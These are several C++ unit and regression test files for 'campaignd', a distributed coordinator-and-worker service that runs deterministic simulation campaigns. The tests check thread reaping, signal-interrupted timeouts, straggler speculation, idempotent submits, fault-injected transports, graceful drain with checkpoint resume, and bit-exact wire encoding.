  coordinator.stop();
}

// --- bugfix regressions --------------------------------------------------

// Bug 1: the coordinator used to push every connection handler into a
// vector joined only at stop() — a long-lived daemon accumulated one
// zombie thread per connection, forever. Pin: handler bookkeeping stays
// bounded across far more sequential connections than the bound.
TEST(HandlerReapTest, SequentialConnectionsAreReaped) {
  campaignd::CoordinatorConfig cc;
  cc.listen_endpoint = "tcp:127.0.0.1:0";
  campaignd::Coordinator coordinator(cc);
  coordinator.start();
  const std::string endpoint = coordinator.endpoint();

  constexpr int kConnections = 120;
  for (int i = 0; i < kConnections; ++i) {
    // Full handshake + request/reply + close per iteration. The unknown-id
    // reject proves the round-trip reached campaign state.
    const campaignd::PollOutcome out =
        campaignd::poll_campaign(endpoint, 999'999);
    ASSERT_FALSE(out.ok);
    ASSERT_NE(out.error.find("unknown"), std::string::npos) << out.error;
  }

  // The last handful of handlers may still be exiting; what must NOT
  // happen is ~120 unjoined threads parked in the table.
  const auto start = Clock::now();
  std::size_t live = coordinator.handler_count();
  while (live > 4 && elapsed_ms(start) < 5'000) {
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
    live = coordinator.handler_count();
  }
  EXPECT_LE(live, 4u) << "handler threads are not being reaped";
  coordinator.stop();
}

// Bug 2: wait_readable restarted poll() with the FULL timeout after every
// EINTR, so a steady signal stream pushed the deadline out forever. Pin:
// a timed read on an idle socket still times out (and in bounded time)
// under a signal storm faster than the timeout.
TEST(WaitReadableTest, TimesOutUnderSignalStorm) {
  struct sigaction sa{};
  sa.sa_handler = [](int) {};  // interrupt syscalls, do nothing else
  sigemptyset(&sa.sa_mask);
  sa.sa_flags = 0;  // deliberately no SA_RESTART
  struct sigaction old{};
  ASSERT_EQ(sigaction(SIGUSR1, &sa, &old), 0);

  auto [a, b] = support::Socket::make_pair();
  std::atomic<bool> done{false};
  support::IoStatus status = support::IoStatus::kOk;
  std::thread reader([&] {
    std::uint8_t byte = 0;
    status = a.recv_exact(&byte, 1, /*timeout_ms=*/300);  // nothing arrives
    done.store(true);
  });
  const pthread_t reader_handle = reader.native_handle();

  const auto start = Clock::now();
  // Storm at ~50/s: every signal lands well inside the 300ms window, so
  // the buggy restart never reaches its timeout.
  while (!done.load() && elapsed_ms(start) < 5'000) {
    pthread_kill(reader_handle, SIGUSR1);
    std::this_thread::sleep_for(std::chrono::milliseconds(20));
  }
  reader.join();
  sigaction(SIGUSR1, &old, nullptr);

  EXPECT_EQ(status, support::IoStatus::kTimeout);
  EXPECT_LT(elapsed_ms(start), 2'000)
      << "EINTR must not restart the full timeout";
}

// Bug 3: an idle worker slept the entire kWait hint (up to 500ms) without
// looking at options.stop. Pin: with the coordinator hinting the maximum
// wait, a stop raised mid-sleep ends the worker in ~100ms slices.
TEST(WorkerStopLatencyTest, StopInterruptsWaitSleep) {
  campaignd::CoordinatorConfig cc;
  cc.listen_endpoint = "tcp:127.0.0.1:0";
  cc.wait_hint_ms = 500;  // no campaigns queued: every poll earns a kWait
  campaignd::Coordinator coordinator(cc);
  coordinator.start();

  std::atomic<bool> stop{false};
  std::thread worker([&] {
    campaignd::WorkerOptions options;
    options.stop = &stop;
    campaignd::run_worker(coordinator.endpoint(), options);
  });

  // Let the worker get comfortably into its first kWait sleep.
  std::this_thread::sleep_for(std::chrono::milliseconds(50));
  const auto raised = Clock::now();
  stop.store(true);
  worker.join();
  const int latency = elapsed_ms(raised);
  coordinator.stop();

  EXPECT_LT(latency, 300) << "worker ignored stop for " << latency << "ms";
}

}  // namespace
