// Robustness suite for the campaign service (DESIGN.md §14): speculative
// straggler recovery, submit idempotency under client retries, client
// resilience over a faulty transport, the graceful drain protocol, and
// checkpoint prefix durability. Every path ends at the same invariant as
// the happy path: stats bit-identical to run_campaign in-process.
#include <unistd.h>

#include <atomic>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <string>
#include <thread>
#include <vector>

#include <gtest/gtest.h>

#include "campaign/campaign.hpp"
#include "campaign/scenarios.hpp"
#include "campaign/wire.hpp"
#include "campaignd/checkpoint.hpp"
#include "campaignd/client.hpp"
#include "campaignd/coordinator.hpp"
#include "campaignd/worker.hpp"
#include "support/netfault.hpp"
#include "support/rng.hpp"

namespace {

using namespace mavr;
using Clock = std::chrono::steady_clock;

campaign::CampaignConfig model_config(std::uint64_t trials) {
  campaign::CampaignConfig config;
  config.scenario = campaign::Scenario::kBruteForceRerand;
  config.trials = trials;
  config.jobs = 4;
  config.seed = 0xC0FFEE;
  config.n_functions = 5;
  return config;
}

bool bitwise_equal(const campaign::CampaignStats& a,
                   const campaign::CampaignStats& b) {
  return std::memcmp(&a, &b, sizeof a) == 0;
}

/// Unique rendezvous paths per test case (parallel ctest processes) and
/// per pid (the same test racing itself from another build tree).
std::string temp_path(const char* suffix) {
  std::string tag =
      ::testing::UnitTest::GetInstance()->current_test_info()->name();
  for (char& c : tag) {
    if (c == '/') c = '_';
  }
  return ::testing::TempDir() + "mavr_res_" + tag + "_" +
         std::to_string(::getpid()) + suffix;
}

/// Worker thread with explicit options; joins (and raises stop) on
/// destruction.
class Worker {
 public:
  Worker(std::string endpoint, campaignd::WorkerOptions options) {
    options.stop = &stop_;
    thread_ = std::thread([endpoint = std::move(endpoint), options] {
      campaignd::run_worker(endpoint, options);
    });
  }
  ~Worker() { join(); }
  void join() {
    stop_.store(true);
    if (thread_.joinable()) thread_.join();
  }
  /// For workers that exit on their own (shutdown/max_chunks).
  void wait_exit() {
    if (thread_.joinable()) thread_.join();
  }

 private:
  std::atomic<bool> stop_{false};
  std::thread thread_;
};

TEST(SpeculationTest, RecoversChunksHeldByAStalledWorker) {
  const campaign::CampaignConfig config = model_config(/*trials=*/640);
  const campaign::CampaignStats in_process = campaign::run_campaign(config);

  campaignd::CoordinatorConfig cc;
  cc.listen_endpoint = "unix:" + temp_path(".sock");
  cc.wait_hint_ms = 5;
  cc.assign_chunks = 4;        // the straggler wedges holding part of a range
  cc.worker_timeout_ms = 120'000;  // assignment timeout must NOT be the
                                   // recovery path in this test
  cc.speculation_min_ms = 100;     // impatient deadline floor for tests
  campaignd::Coordinator coordinator(cc);
  coordinator.start();
  const std::string endpoint = coordinator.endpoint();

  const campaignd::SubmitOutcome submit =
      campaignd::submit_campaign(endpoint, config);
  ASSERT_TRUE(submit.ok) << submit.error;

  // The straggler runs *alone* first: it completes 2 chunks then wedges
  // — connection open, making no progress, holding the rest of its
  // 4-chunk assignment in-flight. Only once it is provably wedged (2
  // chunks done, no more coming) does the healthy worker join, so the
  // held chunks cannot be won in a startup race: speculation is the
  // only way to recover them in this configuration.
  campaignd::WorkerOptions stalled;
  stalled.stall_after_chunks = 2;
  Worker straggler(endpoint, stalled);
  const auto deadline = Clock::now() + std::chrono::seconds(30);
  while (Clock::now() < deadline) {
    const auto mid = campaignd::poll_campaign(endpoint, submit.campaign_id);
    ASSERT_TRUE(mid.ok) << mid.error;
    if (mid.status.chunks_done >= 2) break;
    std::this_thread::sleep_for(std::chrono::milliseconds(5));
  }
  Worker healthy(endpoint, campaignd::WorkerOptions{});
  const campaignd::PollOutcome done = campaignd::wait_campaign(
      endpoint, submit.campaign_id, /*interval_ms=*/10,
      /*timeout_ms=*/60'000);
  ASSERT_TRUE(done.ok) << done.error;
  EXPECT_EQ(done.status.state, campaignd::CampaignState::kDone);
  EXPECT_TRUE(bitwise_equal(done.status.stats, in_process));

  const campaignd::CoordinatorCounters counters = coordinator.counters();
  EXPECT_GE(counters.speculative_assigns, 1u)
      << "campaign finished without speculating — the straggler model "
         "did not hold chunks in flight";
  straggler.join();
  healthy.join();
  coordinator.stop();
}

TEST(ClientResilienceTest, RetriedSubmitIsIdempotent) {
  campaignd::CoordinatorConfig cc;
  cc.listen_endpoint = "unix:" + temp_path(".sock");
  campaignd::Coordinator coordinator(cc);
  coordinator.start();
  const std::string endpoint = coordinator.endpoint();
  const campaign::CampaignConfig config = model_config(640);

  // A client that lost the ack retries the same submit: it must land on
  // the campaign the lost reply admitted, not fork a duplicate.
  const auto first = campaignd::submit_campaign(endpoint, config);
  const auto retried = campaignd::submit_campaign(endpoint, config);
  ASSERT_TRUE(first.ok && retried.ok);
  EXPECT_EQ(retried.campaign_id, first.campaign_id);
  EXPECT_EQ(coordinator.counters().submits_deduped, 1u);

  // A genuinely different campaign (other seed) is NOT deduplicated,
  // even though only non-canonical bytes... every canonical byte counts.
  campaign::CampaignConfig other = config;
  other.seed = config.seed + 1;
  const auto distinct = campaignd::submit_campaign(endpoint, other);
  ASSERT_TRUE(distinct.ok);
  EXPECT_NE(distinct.campaign_id, first.campaign_id);
  EXPECT_EQ(coordinator.counters().submits_deduped, 1u);

  // jobs is not part of campaign identity (not even transmitted).
  campaign::CampaignConfig rejobbed = config;
  rejobbed.jobs = config.jobs + 3;
  const auto rejobbed_submit = campaignd::submit_campaign(endpoint, rejobbed);
  ASSERT_TRUE(rejobbed_submit.ok);
  EXPECT_EQ(rejobbed_submit.campaign_id, first.campaign_id);
  coordinator.stop();
}

TEST(ClientResilienceTest, WaitRidesOutAFaultyClientTransport) {
  const campaign::CampaignConfig config = model_config(/*trials=*/640);
  const campaign::CampaignStats in_process = campaign::run_campaign(config);

  campaignd::CoordinatorConfig cc;
  cc.listen_endpoint = "unix:" + temp_path(".sock");
  cc.wait_hint_ms = 5;
  campaignd::Coordinator coordinator(cc);
  coordinator.start();
  const std::string endpoint = coordinator.endpoint();
  Worker w1(endpoint, campaignd::WorkerOptions{});
  Worker w2(endpoint, campaignd::WorkerOptions{});

  // Every connection this client opens loses frames, takes delays, and
  // occasionally goes half-open — the pre-resilience client died on the
  // first of these. Retries + the consecutive-failure budget must carry
  // it to the (bit-identical) finish line.
  support::NetFaultPlane plane(support::NetFaultConfig::uniform(0.10),
                               support::Rng(2026));
  campaignd::ClientOptions client;
  client.fault_plane = &plane;
  client.max_retries = 25;
  client.retry_backoff_ms = 5;
  client.retry_backoff_max_ms = 100;
  client.reply_timeout_ms = 300;  // bound what a half-open hang costs

  const auto submit = campaignd::submit_campaign(endpoint, config, client);
  ASSERT_TRUE(submit.ok) << submit.error;
  const auto done = campaignd::wait_campaign(
      endpoint, submit.campaign_id, client, /*interval_ms=*/10,
      /*timeout_ms=*/120'000);
  ASSERT_TRUE(done.ok) << done.error;
  EXPECT_TRUE(bitwise_equal(done.status.stats, in_process));
  // The plane really was hostile, not a vacuous pass.
  EXPECT_GT(plane.stats().total(), 0u);
  w1.join();
  w2.join();
  coordinator.stop();
}

TEST(DrainTest, FinishesInflightRejectsNewWorkAndResumes) {
  const campaign::CampaignConfig config = model_config(/*trials=*/640);
  const campaign::CampaignStats in_process = campaign::run_campaign(config);
  const std::string ckpt = temp_path(".ckpt");
  std::remove(ckpt.c_str());

  campaignd::CoordinatorConfig cc;
  cc.listen_endpoint = "unix:" + temp_path(".sock");
  cc.wait_hint_ms = 5;
  cc.checkpoint_path = ckpt;
  cc.assign_chunks = 2;
  std::uint64_t drained_chunks = 0;

  {
    // First life: drain mid-campaign (the daemon's SIGTERM path).
    campaignd::Coordinator coordinator(cc);
    coordinator.start();
    const std::string endpoint = coordinator.endpoint();
    const auto submit = campaignd::submit_campaign(endpoint, config);
    ASSERT_TRUE(submit.ok) << submit.error;

    // A worker that walks away after exactly 3 chunks pins the
    // mid-campaign state deterministically: with a 2-chunk grain it
    // exits one chunk into its second assignment, so 3 chunks are done
    // and 1 reclaims when its connection drops — the campaign cannot
    // race to completion before the drain below.
    campaignd::WorkerOptions deserter;
    deserter.max_chunks = 3;
    Worker worker(endpoint, deserter);
    worker.wait_exit();

    const auto t0 = Clock::now();
    coordinator.begin_drain();
    EXPECT_TRUE(coordinator.draining());
    // New work is refused while draining...
    campaign::CampaignConfig late = config;
    late.seed = 7;
    const auto refused = campaignd::submit_campaign(endpoint, late);
    EXPECT_FALSE(refused.ok);
    EXPECT_NE(refused.error.find("drain"), std::string::npos)
        << refused.error;
    // ...and the drain completes promptly (in-flight work either landed
    // already or reclaimed when the deserter's connection dropped).
    EXPECT_TRUE(coordinator.drain(/*timeout_ms=*/10'000));
    const auto stop_latency = Clock::now() - t0;
    EXPECT_LT(stop_latency, std::chrono::seconds(10));

    const auto after = campaignd::poll_campaign(endpoint, submit.campaign_id);
    ASSERT_TRUE(after.ok) << after.error;
    drained_chunks = after.status.chunks_done;
    EXPECT_EQ(drained_chunks, 3u);  // genuinely mid-campaign, pinned
    coordinator.stop();
  }

  {
    // Second life: every chunk accepted before the drain was fsynced;
    // resubmitting resumes past all of them, and the finished campaign
    // is bit-identical.
    campaignd::Coordinator coordinator(cc);
    coordinator.start();
    const std::string endpoint = coordinator.endpoint();
    const auto submit = campaignd::submit_campaign(endpoint, config);
    ASSERT_TRUE(submit.ok) << submit.error;
    const auto resumed = campaignd::poll_campaign(endpoint,
                                                  submit.campaign_id);
    ASSERT_TRUE(resumed.ok) << resumed.error;
    EXPECT_EQ(resumed.status.chunks_done, drained_chunks);

    Worker worker(endpoint, campaignd::WorkerOptions{});
    const auto done = campaignd::wait_campaign(
        endpoint, submit.campaign_id, /*interval_ms=*/10,
        /*timeout_ms=*/60'000);
    ASSERT_TRUE(done.ok) << done.error;
    EXPECT_TRUE(bitwise_equal(done.status.stats, in_process));
    worker.join();
    coordinator.stop();
  }
  std::remove(ckpt.c_str());
}

TEST(CheckpointTest, EveryLogPrefixLoadsOnlyWholeRecords) {
  // Crash simulation without crashing: a coordinator killed mid-append
  // leaves some byte prefix of the log. Replay *every* prefix and require
  // that load() yields exactly the whole records that fit — bitwise equal
  // to the originals, in order, with the torn tail ignored.
  const campaign::CampaignConfig config = model_config(/*trials=*/512);
  const std::uint64_t n_chunks = campaign::num_chunks(config.trials);
  ASSERT_EQ(n_chunks, 8u);
  const std::uint64_t fp = campaign::wire::config_fingerprint(config);
  const campaign::TrialFn fn = campaign::make_trial_fn(config, nullptr);
  const std::vector<campaign::ChunkResult> chunks =
      campaign::run_chunk_range(config, fn, 0, n_chunks);
  ASSERT_EQ(chunks.size(), n_chunks);

  const std::string full_path = temp_path(".ckpt");
  const std::string cut_path = temp_path(".cut");
  std::remove(full_path.c_str());
  {
    campaignd::CheckpointStore store(full_path);
    for (const campaign::ChunkResult& c : chunks) store.append(fp, c);
    store.sync();
  }
  std::ifstream in(full_path, std::ios::binary);
  ASSERT_TRUE(in.good());
  const std::vector<char> log((std::istreambuf_iterator<char>(in)),
                              std::istreambuf_iterator<char>());
  ASSERT_GT(log.size(), 0u);

  std::size_t prev_loaded = 0;
  for (std::size_t cut = 0; cut <= log.size(); ++cut) {
    {
      std::ofstream out(cut_path, std::ios::binary | std::ios::trunc);
      out.write(log.data(), static_cast<std::streamsize>(cut));
    }
    const campaignd::CheckpointStore store(cut_path);
    const std::vector<campaign::ChunkResult> loaded =
        store.load(fp, n_chunks);
    // Monotone: longer prefixes never lose records...
    ASSERT_GE(loaded.size(), prev_loaded) << "cut at byte " << cut;
    // ...and never gain more than one whole record per boundary crossed.
    ASSERT_LE(loaded.size(), chunks.size());
    for (std::size_t i = 0; i < loaded.size(); ++i) {
      ASSERT_EQ(loaded[i].index, chunks[i].index);
      ASSERT_EQ(0, std::memcmp(&loaded[i].accum, &chunks[i].accum,
                               sizeof chunks[i].accum))
          << "cut at byte " << cut << ", record " << i;
      ASSERT_EQ(loaded[i].attempts, chunks[i].attempts);
    }
    prev_loaded = loaded.size();
  }
  EXPECT_EQ(prev_loaded, chunks.size());  // the full log loads everything
  std::remove(full_path.c_str());
  std::remove(cut_path.c_str());
}

}  // namespace
