// Wire encoding and framing tests: every struct that crosses the
// campaignd process boundary must round-trip bit-exactly (the service's
// determinism contract survives serialization only if the bytes do), and
// the frame layer must reject corruption rather than misparse it.
#include <bit>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <limits>
#include <string>

#include <gtest/gtest.h>

#include "campaign/campaign.hpp"
#include "campaign/wire.hpp"
#include "campaignd/checkpoint.hpp"
#include "campaignd/protocol.hpp"
#include "support/bytes.hpp"
#include "support/error.hpp"
#include "support/socket.hpp"

namespace {

using namespace mavr;
namespace wire = campaign::wire;

/// Bit-exact double comparison: distinguishes -0.0 from 0.0 and compares
/// denormals exactly, which operator== does not.
bool same_bits(double a, double b) {
  return std::bit_cast<std::uint64_t>(a) == std::bit_cast<std::uint64_t>(b);
}

campaign::CampaignConfig sample_config() {
  campaign::CampaignConfig config;
  config.scenario = campaign::Scenario::kDetectSweep;
  config.trials = 12'345;
  config.jobs = 7;  // must NOT survive the wire
  config.seed = 0xDEADBEEFCAFEF00Dull;
  config.n_functions = 11;
  config.warmup_cycles = 123'456'789;
  config.slice_cycles = 54'321;
  config.attack_slices = 99;
  config.watchdog_timeout_cycles = 777'777;
  config.fault_rate = 0.125;
  config.detectors = 0b1010u;
  config.detect_attack = campaign::DetectAttack::kV2;
  config.detect_randomize = true;
  return config;
}

TEST(Wire, ConfigRoundTripDropsJobs) {
  const campaign::CampaignConfig config = sample_config();
  support::Bytes blob;
  support::ByteWriter w(blob);
  wire::encode_config(w, config);
  support::ByteReader r(blob);
  const campaign::CampaignConfig back = wire::decode_config(r);
  EXPECT_TRUE(r.done());
  EXPECT_EQ(back.scenario, config.scenario);
  EXPECT_EQ(back.trials, config.trials);
  EXPECT_EQ(back.jobs, 1u);  // execution detail, reset on decode
  EXPECT_EQ(back.seed, config.seed);
  EXPECT_EQ(back.n_functions, config.n_functions);
  EXPECT_EQ(back.warmup_cycles, config.warmup_cycles);
  EXPECT_EQ(back.slice_cycles, config.slice_cycles);
  EXPECT_EQ(back.attack_slices, config.attack_slices);
  EXPECT_EQ(back.watchdog_timeout_cycles, config.watchdog_timeout_cycles);
  EXPECT_TRUE(same_bits(back.fault_rate, config.fault_rate));
  EXPECT_EQ(back.detectors, config.detectors);
  EXPECT_EQ(back.detect_attack, config.detect_attack);
  EXPECT_EQ(back.detect_randomize, config.detect_randomize);
}

TEST(Wire, ConfigRejectsUnknownTags) {
  const campaign::CampaignConfig config = sample_config();
  support::Bytes blob;
  support::ByteWriter w(blob);
  wire::encode_config(w, config);
  support::Bytes bad = blob;
  bad[0] = 200;  // scenario tag
  support::ByteReader r(bad);
  EXPECT_THROW(wire::decode_config(r), support::DataError);
}

TEST(Wire, TrialResultRoundTripExtremeValues) {
  campaign::TrialResult result;
  result.success = true;
  result.detected = true;
  result.degraded = false;
  result.detector_fired = true;
  result.attempts = std::numeric_limits<double>::denorm_min();
  result.startup_ms = -0.0;
  result.cycles = std::numeric_limits<std::uint64_t>::max();
  result.ttd_cycles = std::numeric_limits<std::uint64_t>::max() - 1;

  support::Bytes blob;
  support::ByteWriter w(blob);
  wire::encode_trial_result(w, result);
  support::ByteReader r(blob);
  const campaign::TrialResult back = wire::decode_trial_result(r);
  EXPECT_TRUE(r.done());
  EXPECT_EQ(back.success, result.success);
  EXPECT_EQ(back.detected, result.detected);
  EXPECT_EQ(back.degraded, result.degraded);
  EXPECT_EQ(back.detector_fired, result.detector_fired);
  EXPECT_TRUE(same_bits(back.attempts, result.attempts));
  EXPECT_TRUE(same_bits(back.startup_ms, result.startup_ms));
  EXPECT_EQ(back.cycles, result.cycles);
  EXPECT_EQ(back.ttd_cycles, result.ttd_cycles);
}

campaign::ChunkResult sample_chunk(std::uint64_t index, std::size_t n) {
  campaign::ChunkResult chunk;
  chunk.index = index;
  chunk.accum.sum_attempts = 1.0 / 3.0;
  chunk.accum.max_attempts = 1e308;
  chunk.accum.sum_startup_ms = -0.0;
  chunk.accum.sum_ttd_cycles = std::numeric_limits<double>::denorm_min();
  chunk.accum.cycles = std::numeric_limits<std::uint64_t>::max();
  chunk.accum.successes = 64;
  chunk.accum.detections = 63;
  chunk.accum.degradations = 1;
  chunk.accum.detector_trips = 62;
  for (std::size_t i = 0; i < n; ++i) {
    chunk.attempts.push_back(static_cast<double>(i) + 1.0 / 7.0);
  }
  return chunk;
}

TEST(Wire, ChunkResultRoundTripBitExact) {
  const campaign::ChunkResult chunk =
      sample_chunk(/*index=*/9'999'999'999ull, /*n=*/campaign::kChunkTrials);
  support::Bytes blob;
  support::ByteWriter w(blob);
  wire::encode_chunk_result(w, chunk);
  support::ByteReader r(blob);
  const campaign::ChunkResult back = wire::decode_chunk_result(r);
  EXPECT_TRUE(r.done());
  EXPECT_EQ(back.index, chunk.index);
  EXPECT_TRUE(same_bits(back.accum.sum_attempts, chunk.accum.sum_attempts));
  EXPECT_TRUE(same_bits(back.accum.max_attempts, chunk.accum.max_attempts));
  EXPECT_TRUE(
      same_bits(back.accum.sum_startup_ms, chunk.accum.sum_startup_ms));
  EXPECT_TRUE(
      same_bits(back.accum.sum_ttd_cycles, chunk.accum.sum_ttd_cycles));
  EXPECT_EQ(back.accum.cycles, chunk.accum.cycles);
  EXPECT_EQ(back.accum.successes, chunk.accum.successes);
  EXPECT_EQ(back.accum.detections, chunk.accum.detections);
  EXPECT_EQ(back.accum.degradations, chunk.accum.degradations);
  EXPECT_EQ(back.accum.detector_trips, chunk.accum.detector_trips);
  ASSERT_EQ(back.attempts.size(), chunk.attempts.size());
  for (std::size_t i = 0; i < chunk.attempts.size(); ++i) {
    EXPECT_TRUE(same_bits(back.attempts[i], chunk.attempts[i]));
  }
}

TEST(Wire, ChunkResultRejectsOversizedAttempts) {
  campaign::ChunkResult chunk = sample_chunk(0, campaign::kChunkTrials);
  support::Bytes blob;
  support::ByteWriter w(blob);
  wire::encode_chunk_result(w, chunk);
  // Patch the attempts count (right after index + accum) past the chunk
  // trial budget.
  const std::size_t count_offset = 8 + (4 * 8 + 5 * 8);
  blob[count_offset] = 65;
  support::ByteReader r(blob);
  EXPECT_THROW(wire::decode_chunk_result(r), support::Error);
}

TEST(Wire, StatsRoundTripBitExact) {
  campaign::CampaignStats stats;
  stats.trials = std::numeric_limits<std::uint64_t>::max();
  stats.successes = 1;
  stats.detections = 2;
  stats.degradations = 3;
  stats.mean_attempts = 0.1 + 0.2;  // classic non-representable sum
  stats.max_attempts = 1e300;
  stats.p50_attempts = -0.0;
  stats.p90_attempts = std::numeric_limits<double>::denorm_min();
  stats.p99_attempts = 1.0 / 3.0;
  stats.mean_cycles = 2.5;
  stats.total_cycles = 123;
  stats.mean_startup_ms = 4.25;
  stats.detector_trips = 5;
  stats.mean_ttd_cycles = 6.125;

  support::Bytes blob;
  support::ByteWriter w(blob);
  wire::encode_stats(w, stats);
  support::ByteReader r(blob);
  const campaign::CampaignStats back = wire::decode_stats(r);
  EXPECT_TRUE(r.done());
  EXPECT_EQ(0, std::memcmp(&back, &stats, sizeof stats));
}

TEST(Wire, TruncatedInputThrows) {
  support::Bytes blob;
  support::ByteWriter w(blob);
  wire::encode_chunk_result(w, sample_chunk(1, 8));
  blob.resize(blob.size() - 1);
  support::ByteReader r(blob);
  EXPECT_THROW(wire::decode_chunk_result(r), support::Error);
}

TEST(Wire, FingerprintTracksEveryResultField) {
  const campaign::CampaignConfig base = sample_config();
  const std::uint64_t fp = wire::config_fingerprint(base);
  EXPECT_EQ(fp, wire::config_fingerprint(base));  // deterministic

  campaign::CampaignConfig c = base;
  c.jobs = 99;  // execution detail: fingerprint must NOT move
  EXPECT_EQ(fp, wire::config_fingerprint(c));

  c = base; c.scenario = campaign::Scenario::kV1;
  EXPECT_NE(fp, wire::config_fingerprint(c));
  c = base; c.trials += 1;
  EXPECT_NE(fp, wire::config_fingerprint(c));
  c = base; c.seed += 1;
  EXPECT_NE(fp, wire::config_fingerprint(c));
  c = base; c.n_functions += 1;
  EXPECT_NE(fp, wire::config_fingerprint(c));
  c = base; c.warmup_cycles += 1;
  EXPECT_NE(fp, wire::config_fingerprint(c));
  c = base; c.slice_cycles += 1;
  EXPECT_NE(fp, wire::config_fingerprint(c));
  c = base; c.attack_slices += 1;
  EXPECT_NE(fp, wire::config_fingerprint(c));
  c = base; c.watchdog_timeout_cycles += 1;
  EXPECT_NE(fp, wire::config_fingerprint(c));
  c = base; c.fault_rate += 0.5;
  EXPECT_NE(fp, wire::config_fingerprint(c));
  c = base; c.detectors ^= 1u;
  EXPECT_NE(fp, wire::config_fingerprint(c));
  c = base; c.detect_attack = campaign::DetectAttack::kClean;
  EXPECT_NE(fp, wire::config_fingerprint(c));
  c = base; c.detect_randomize = !c.detect_randomize;
  EXPECT_NE(fp, wire::config_fingerprint(c));
}

// --- frame layer over a real socketpair ---------------------------------

TEST(Protocol, FrameRoundTripOverSocketPair) {
  auto [a, b] = support::Socket::make_pair();
  ASSERT_TRUE(a.valid());
  ASSERT_TRUE(b.valid());

  campaignd::ChunkResultBody body;
  body.campaign_id = 42;
  body.result = sample_chunk(7, campaign::kChunkTrials);
  ASSERT_TRUE(campaignd::send_message(a, campaignd::MsgType::kChunkResult,
                                      campaignd::encode_chunk_result(body)));

  campaignd::Message msg;
  ASSERT_EQ(campaignd::recv_message(b, &msg, 1000), support::IoStatus::kOk);
  EXPECT_EQ(msg.type, campaignd::MsgType::kChunkResult);
  const campaignd::ChunkResultBody back =
      campaignd::decode_chunk_result(msg.body);
  EXPECT_EQ(back.campaign_id, 42u);
  EXPECT_EQ(back.result.index, 7u);
  EXPECT_EQ(back.result.attempts.size(), campaign::kChunkTrials);
}

TEST(Protocol, EmptySocketTimesOut) {
  auto [a, b] = support::Socket::make_pair();
  campaignd::Message msg;
  EXPECT_EQ(campaignd::recv_message(b, &msg, 50),
            support::IoStatus::kTimeout);
}

TEST(Protocol, CorruptFrameReadsAsClosed) {
  auto [a, b] = support::Socket::make_pair();
  support::Bytes frame;
  support::ByteWriter w(frame);
  const support::Bytes payload = {wire::kWireVersion,
                                  static_cast<std::uint8_t>(
                                      campaignd::MsgType::kWorkRequest)};
  w.u32_le(static_cast<std::uint32_t>(payload.size()));
  w.u32_le(0xBAADF00D);  // wrong CRC
  w.bytes(payload);
  ASSERT_TRUE(a.send_all(frame));
  campaignd::Message msg;
  EXPECT_EQ(campaignd::recv_message(b, &msg, 1000),
            support::IoStatus::kClosed);
}

TEST(Protocol, OversizedLengthReadsAsClosed) {
  auto [a, b] = support::Socket::make_pair();
  support::Bytes frame;
  support::ByteWriter w(frame);
  w.u32_le(campaignd::kMaxFrameBytes + 1);
  w.u32_le(0);
  ASSERT_TRUE(a.send_all(frame));
  campaignd::Message msg;
  EXPECT_EQ(campaignd::recv_message(b, &msg, 1000),
            support::IoStatus::kClosed);
}

TEST(Protocol, StatusBodyRoundTrip) {
  campaignd::StatusBody status;
  status.state = campaignd::CampaignState::kRunning;
  status.chunks_done = 3;
  status.chunks_total = 10;
  status.trials_done = 192;
  status.trials_total = 640;
  status.queue_position = 2;
  status.stats.trials = 192;
  status.stats.mean_attempts = 1.0 / 3.0;
  const campaignd::StatusBody back =
      campaignd::decode_status(campaignd::encode_status(status));
  EXPECT_EQ(back.state, status.state);
  EXPECT_EQ(back.chunks_done, status.chunks_done);
  EXPECT_EQ(back.chunks_total, status.chunks_total);
  EXPECT_EQ(back.trials_done, status.trials_done);
  EXPECT_EQ(back.trials_total, status.trials_total);
  EXPECT_EQ(back.queue_position, status.queue_position);
  EXPECT_EQ(0, std::memcmp(&back.stats, &status.stats, sizeof status.stats));
}

TEST(Protocol, AssignBodyRejectsTrailingBytes) {
  campaignd::AssignBody assign;
  assign.campaign_id = 1;
  assign.config = sample_config();
  assign.chunks = {0, 1, 2};
  support::Bytes blob = campaignd::encode_assign(assign);
  const campaignd::AssignBody back = campaignd::decode_assign(blob);
  EXPECT_EQ(back.chunks, assign.chunks);
  blob.push_back(0);
  EXPECT_THROW(campaignd::decode_assign(blob), support::Error);
}

// --- checkpoint store ---------------------------------------------------

class CheckpointTest : public ::testing::Test {
 protected:
  std::string path_ = ::testing::TempDir() + "mavr_ckpt_test.log";
  void SetUp() override { std::remove(path_.c_str()); }
  void TearDown() override { std::remove(path_.c_str()); }
};

TEST_F(CheckpointTest, AppendLoadRoundTrip) {
  campaignd::CheckpointStore store(path_);
  store.append(0x1111, sample_chunk(2, 64));
  store.append(0x1111, sample_chunk(0, 64));
  store.append(0x2222, sample_chunk(5, 64));  // other campaign
  store.append(0x1111, sample_chunk(2, 64));  // duplicate: first wins

  const auto loaded = store.load(0x1111, /*n_chunks=*/10);
  ASSERT_EQ(loaded.size(), 2u);
  EXPECT_EQ(loaded[0].index, 0u);  // sorted ascending
  EXPECT_EQ(loaded[1].index, 2u);
  EXPECT_EQ(loaded[1].attempts.size(), 64u);
  // Out-of-range indices for a smaller campaign are dropped.
  EXPECT_TRUE(store.load(0x2222, /*n_chunks=*/5).empty());
}

TEST_F(CheckpointTest, TornTailIsIgnored) {
  campaignd::CheckpointStore store(path_);
  store.append(0x3333, sample_chunk(0, 64));
  store.append(0x3333, sample_chunk(1, 64));
  {
    // Simulate a kill mid-append: a record header promising more bytes
    // than were ever written.
    std::FILE* f = std::fopen(path_.c_str(), "ab");
    ASSERT_NE(f, nullptr);
    const std::uint8_t torn[] = {0xFF, 0x00, 0x00, 0x00, 0x12, 0x34,
                                 0x56, 0x78, 0x01, 0x02};
    std::fwrite(torn, 1, sizeof torn, f);
    std::fclose(f);
  }
  const auto loaded = store.load(0x3333, 10);
  ASSERT_EQ(loaded.size(), 2u);
  EXPECT_EQ(loaded[0].index, 0u);
  EXPECT_EQ(loaded[1].index, 1u);
}

TEST_F(CheckpointTest, DisabledStoreIsInert) {
  campaignd::CheckpointStore store("");
  EXPECT_FALSE(store.enabled());
  store.append(1, sample_chunk(0, 64));  // no-op, must not create a file
  EXPECT_TRUE(store.load(1, 10).empty());
}

}  // namespace
