// Chaos soak (DESIGN.md §14, `ctest -L chaos`): full campaigns over a
// deliberately hostile transport, swept across fault rates, plus the
// compound scenario — faults, crash-looping workers, and speculative
// duplicates at once. The acceptance bar never moves: stats and exports
